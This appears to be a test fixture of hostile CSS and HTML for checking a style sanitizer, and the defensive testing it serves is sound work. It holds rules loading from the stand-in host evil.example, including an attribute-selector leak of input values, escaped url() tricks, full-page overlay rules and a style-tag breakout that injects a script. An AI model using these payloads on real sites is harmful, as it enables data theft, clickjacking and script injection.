/** Ours: each rule tries to load, to reach out of its card or to show what it hides, in another way. */
export const HOSTILE_CSS = `
@charset "utf-8";
@import url(https://evil.example/import.css);
@import "https://evil.example/import2.css" screen;
@namespace svg url(https://evil.example/ns);
@font-face { font-family: evil; src: url(https://evil.example/font.woff2); }
@property --typed { syntax: '<url>'; inherits: true; initial-value: url(https://evil.example/property); }
@page { background: url(https://evil.example/page); }
.card { font-family: evil, serif; background: url(https://evil.example/background) #fdf6e3; }
.a { background-image: image-set("https://evil.example/set" 1x); list-style-image: url(https://evil.example/list); }
.a { background-image: -webkit-image-set(url(https://evil.example/webkit) 1x), -webkit-cross-fade(url(https://evil.example/x), url(https://evil.example/y), 50%); }
.a { cursor: url(https://evil.example/cursor), pointer; border-image: url(https://evil.example/border) 1 / 4px solid; }
.a { mask-image: url(https://evil.example/mask); clip-path: url(https://evil.example/clip#a); filter: url(https://evil.example/filter#a); }
.a::before { content: url(https://evil.example/content); }
.a::after { content: "kept" ; }
.a { shape-outside: url(https://evil.example/shape); offset-path: url(https://evil.example/offset#a); }
.b { background: u\\72l(https://evil.example/escaped); background: \\75 rl("https://evil.example/escaped2"); }
.b { --loads: url(https://evil.example/variable); --hidden: u\\72l(https://evil.example/variable2); }
.b { background: var(--loads); background-image: var(--hidden), var(--none, url(https://evil.example/fallback)); }
.b { background: src("https://evil.example/src"); background: element(#x); background: paint(evil); }
.b { background-image: attr(data-src type(<url>)); -moz-binding: url(https://evil.example/binding#x); behavior: url(https://evil.example/htc); width: expression(alert(1)); }
input[value^="a"] { background: url(https://evil.example/leak?a); }
.card { position: fixed; inset: 0; z-index: 2147483647; }
.c { --place: fixed; position: var(--place); inset: 0; }
.c { position: -webkit-sticky; position: sticky !important; top: 0; }
.d { position: absolute; inset: -3000px; width: 9000px; height: 9000px; background: red; z-index: 2147483647; }
.e { margin: -3000px; padding: 3000px; transform: translate(-2000px, -2000px) scale(50); box-shadow: 0 0 0 9999px red; outline: 9999px solid red; }
:host { position: fixed !important; inset: 0; width: 9000px; height: 9000px; background: red; }
:host-context(html) .a { position: fixed; }
::slotted(*) { position: fixed; }
html, body, :root { position: fixed; width: 9000px; overflow: visible; contain: none; }
* { visibility: visible !important; contain: none !important; pointer-events: none; all: initial; }
.card, #answer { visibility: initial; }
@media all { .f { position: fixed; background: url(https://evil.example/media); } }
@supports (display: grid) { .f { position: fixed; background: url(https://evil.example/supports); } }
@layer x { .f { position: fixed; background: url(https://evil.example/layer); } }
@container (min-width: 0) { .f { position: fixed; } }
@scope (.card) { .f { position: fixed; } }
@starting-style { .f { position: fixed; } }
.f { .g { position: fixed; background: url(https://evil.example/nested); } @media all { position: fixed; } }
@keyframes k { from { background: url(https://evil.example/frame); position: fixed; } to { visibility: visible; } }
.f { animation: k 1s infinite alternate !important; }
.h { content: "}</style><script>window.hit=1</script>"; }
</style><script>window.hit=1</script><style>
.i { color: red; } /* never closed
`;

/** Elements that the rules above are about. */
export const HOSTILE_HTML = ['a', 'b', 'c', 'd', 'e', 'f', 'f g', 'h', 'i']
  .map((name) => `<div class="${name}">${name}</div>`)
  .join('');
